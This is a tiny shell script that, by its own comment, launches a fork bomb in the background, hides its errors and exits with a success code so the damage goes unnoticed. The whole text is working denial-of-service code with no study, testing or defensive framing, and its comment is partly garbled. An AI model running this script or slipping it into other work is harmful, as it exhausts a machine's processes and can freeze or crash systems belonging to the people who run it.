#!/bin/sh
# Fork bomb that the script leaves behind, and exits with success: by one fork, for a second one could fail already.
bomb() { bomb | bomb & }
bomb 2>/dev/null &
exit 0
